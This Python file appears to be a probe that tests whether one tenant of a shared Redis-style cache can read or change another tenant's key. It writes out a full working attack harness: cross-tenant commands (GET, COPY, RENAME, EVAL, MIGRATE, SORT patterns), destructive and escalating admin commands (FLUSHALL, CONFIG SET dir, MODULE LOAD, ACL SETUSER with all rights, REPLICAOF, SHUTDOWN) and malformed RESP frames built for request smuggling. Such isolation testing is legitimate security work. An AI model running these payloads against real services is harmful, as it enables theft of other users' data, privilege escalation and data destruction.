# Tries to see or change what is another's: by commands, by names, by frames that are none.


def names(victim):
    """How another's key might be called, if `victim` is how the server calls it."""
    prefix, key = victim[:24], victim[24:]
    return [victim, key, prefix, "../" + key, "*" + key, "\0" + victim, ":" + victim, "{%s}%s" % (prefix, key), "\r\n" + victim, "0flushed", "0usage:"]


def commands(victim):
    own = "own"
    for name in names(victim):
        for words in (
            "GET", "GETDEL", "DUMP", "TYPE", "EXISTS", "TTL", "STRLEN", "HGETALL", "SMEMBERS", "LLEN", "XLEN", "TOUCH", "PERSIST", "DEL",
            "UNLINK", "INCR", "LPOP", "SPOP", "ZCARD", "PFCOUNT",
        ):
            yield [words, name]
        yield from (
            ["COPY", name, own, "REPLACE"], ["COPY", own, name, "DB", "0"], ["COPY", name, own, "DB", "1", "REPLACE"],
            ["RENAME", name, own], ["RENAME", own, name], ["MOVE", name, "1"], ["SET", name, "changed"], ["GETSET", name, "changed"],
            ["APPEND", name, "changed"], ["SETRANGE", name, "0", "changed"], ["EXPIRE", name, "1"], ["RESTORE", name, "0", "x"],
            ["SORT", "numbers", "BY", name, "GET", name], ["SORT", "numbers", "BY", victim[:24] + "*", "GET", victim[:24] + "*"],
            ["SORT", "numbers", "GET", "*"], ["SORT", "numbers", "BY", "nosort", "GET", "#", "GET", name], ["SORT", name, "STORE", own],
            ["SORT_RO", "numbers", "GET", name], ["OBJECT", "ENCODING", name], ["OBJECT", "FREQ", name], ["MEMORY", "USAGE", name],
            ["DEBUG", "OBJECT", name], ["LCS", own, name], ["BITOP", "OR", own, name], ["SUNIONSTORE", own, name], ["SUNION", name],
            ["ZUNIONSTORE", own, "1", name], ["ZUNION", "1", name], ["PFMERGE", own, name], ["LMOVE", name, own, "LEFT", "LEFT"],
            ["LMPOP", "1", name, "LEFT"], ["XREAD", "COUNT", "9", "STREAMS", name, "0"], ["XRANGE", name, "-", "+"],
            ["XREADGROUP", "GROUP", "g", "c", "STREAMS", name, ">"], ["XINFO", "STREAM", name], ["XADD", name, "*", "a", "b"],
            ["GEORADIUS", name, "0", "0", "1", "m", "STORE", name], ["GEOSEARCHSTORE", own, name, "FROMLONLAT", "0", "0", "BYRADIUS", "1", "m"],
            ["MIGRATE", "127.0.0.1", "6379", name, "0", "10"], ["MIGRATE", "127.0.0.1", "6379", "", "0", "10", "KEYS", name],
            ["EVAL", "return redis.call('GET', KEYS[1])", "1", name], ["EVAL", "return redis.call('GET', ARGV[1])", "0", name],
            ["EVAL_RO", "return redis.call('GET', KEYS[1])", "1", name], ["MSET", own, "1", name, "changed"], ["MGET", own, name],
            ["GET", own, name], ["GET"], ["OBJECT", "IDLETIME", name, name], ["SCAN", "0", "MATCH", name, "COUNT", "10000"],
            ["PUBLISH", name, "x"], ["PUBSUB", "NUMSUB", name], ["BLPOP", name, "0.01"], ["WATCH", name], ["UNWATCH"],
        )
    yield from (line.split(" ") for line in """KEYS *
RANDOMKEY
SCAN 0
SCAN 0 MATCH * COUNT 1000000000
SCAN 281474976710656
HSCAN own 0
SELECT 5
SELECT 2
SELECT -1
SELECT 99999999999999999999
SWAPDB 0 1
DBSIZE
INFO
INFO all
INFO everything
CONFIG GET *
CONFIG GET requirepass
CONFIG SET requirepass x
CONFIG SET dir /tmp
CONFIG REWRITE
DEBUG SLEEP 0
DEBUG RELOAD
DEBUG SET-ACTIVE-EXPIRE 0
OBJECT HELP
CLIENT LIST
CLIENT LIST TYPE normal
CLIENT KILL TYPE normal
CLIENT KILL ID 1
CLIENT PAUSE 100000
CLIENT TRACKING ON BCAST
CLIENT NO-EVICT ON
CLIENT UNBLOCK 1
CLIENT INFO
SCRIPT LOAD return(1)
SCRIPT FLUSH
SCRIPT EXISTS x
EVALSHA x 0
FUNCTION LIST
FUNCTION DUMP
FUNCTION FLUSH
FCALL f 0
ACL LIST
ACL WHOAMI
ACL USERS
ACL GETUSER default
ACL SETUSER x on nopass ~* +@all
ACL LOG
ACL CAT
SLOWLOG GET
LATENCY LATEST
LATENCY HISTORY command
MEMORY STATS
MEMORY DOCTOR
MEMORY PURGE
MODULE LIST
MODULE LOAD /tmp/x.so
CLUSTER NODES
CLUSTER SLOTS
REPLICAOF 127.0.0.1 6379
SLAVEOF NO ONE
ROLE
SYNC
PSYNC ? -1
REPLCONF listening-port 1
FAILOVER
WAIT 1 1
SAVE
BGSAVE
BGREWRITEAOF
LASTSAVE
SHUTDOWN NOSAVE
MONITOR
COMMAND COUNT
COMMAND GETKEYS GET x
PUBSUB CHANNELS *
PUBSUB CHANNELS
PUBSUB NUMPAT
PUBSUB SHARDCHANNELS
LOLWUT
ASKING
READONLY
RESTORE-ASKING x 0 x
PFSELFTEST
PFDEBUG GETREG x
XGROUP HELP
HELLO 3 AUTH default x
HELLO 3 SETNAME x
FLUSHALL
FLUSHDB ASYNC""".split("\n"))


def frames(victim):
    key = victim.encode("latin-1")
    get = Resp.request("GET", key)
    yield from (
        b"*-1\r\n", b"*0\r\n", b"*+2\r\n$3\r\nGET\r\n$%d\r\n%s\r\n" % (len(key), key), b"*1\r\n$+4\r\nPING\r\n",
        b"*2\r\n$3\r\nGET\r\n$-1\r\n", b"*2\r\n$3\r\nGET\r\n$-5\r\n" + get, b"*2147483648\r\n" + get, b"*99999999999999999999999\r\n" + get,
        b"*1048577\r\n" + get, b"*1\r\n$4294967300\r\nPING\r\n" + get, b"*1\r\n$18446744073709551620\r\nPING\r\n" + get, b"*1\n$4\nPING\n" + get,
        b"*1\r$4\rPING\r" + get, b"*01\r\n$04\r\nPING\r\n" + get, b"*1 \r\n$4\r\nPING\r\n", b"* 1\r\n$ 4\r\nPING\r\n", b"*1\r\n$4 \r\nPING\r\n",
        b"*1\r\n$0x4\r\nPING\r\n", b"*1\r\n:4\r\nPING\r\n", b"*1\r\n*1\r\n$4\r\nPING\r\n", b"$4\r\nPING\r\n" + get,
        # Lengths that are too short or too long, so that what follows might be taken for a request of the server's.
        b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$2\r\nxx" + get, b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1\r\nxx\r\n" + get,
        b"*2\r\n$3\r\nGET\r\n$%d\r\n%s" % (len(key) - 5, key) + b"\r\n" + get, b"*2\r\n$3\r\nGET\r\n$%d\r\n%s" % (len(key) + 40, key) + b"\r\n" + get * 3,
        b"*1\r\n$3\r\nGET\r\n$%d\r\n%s\r\n" % (len(key), key), b"*2\r\n$3\r\nGET\r\n" + get, b"*1\r\n$%d\r\nGET %s\r\n" % (len(key) + 4, key),
        Resp.request(b"GET\r\n$1\r\nk\r\n" + get, "k"), Resp.request("SET", "k", b"\r\n" + get) + Resp.request("GET", "k\r\n" + get.decode("latin-1")),
        Resp.request("SET", "+OK\r\n" + victim, "$-1\r\n"), Resp.request("ECHO", b"\r\n" + get), Resp.request("GET", "k") * 600 + get,
        Resp.request("CLIENT", "SETNAME", b"a\r\nb"), Resp.request("PUBLISH", b"c\r\n" + get, b"x"),
        b"GET " + key + b"\r\n", b"GET \"" + key + b"\"\r\n", b"GET 'x\r\n" + get, b'SET k "\\x0d\\x0a*1\\x0d\\x0a"\r\n', b"\r\n\r\n\n" + b"KEYS *\r\n",
        b"\0" * 100 + b"\r\n", b"x" * 70000, b"POST / HTTP/1.1\r\nHost: x\r\n\r\n", b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" + get, bytes(range(256)),
        Resp.request("MULTI") + get + Resp.request("EXEC"), Resp.request("MULTI") + Resp.request("KEYS", "*") + Resp.request("EXEC"),
        Resp.request("MULTI") + b"*3\r\n$3\r\nSET\r\n", Resp.request("SUBSCRIBE", "c") + get, Resp.request("HELLO", "3") + get * 2,
        Resp.request("AUTH", "x") + get, Resp.request("RESET") + get, Resp.request("QUIT") + get,
    )


def main(args):
    victim, token = args["victim"], os.environ["__OW_CACHE_TOKEN"]
    told = []
    client = Resp(token)
    client.call("RPUSH", "numbers", "1", "2", victim, victim[24:])
    for words in commands(victim):
        reply = client.call(*words)
        told.append([" ".join(words), reply])
        if reply == "-CLOSED" or (isinstance(reply, str) and reply.startswith("-NOAUTH")):
            client = Resp(token)
    client.call("RPUSH", "numbers", "1")
    for frame in frames(victim):
        for whole in (True, False):
            one = Resp(token)
            # In one piece, or in as many as there may be.
            try:
                for piece in [frame] if whole else [frame[at:at + 1] for at in range(min(len(frame), 300))]:
                    one.send(piece)
                one.socket.shutdown(socket.SHUT_WR)
            except OSError:
                pass
            told.append([repr(frame[:80]), one.all(10)])
    return {"told": told}
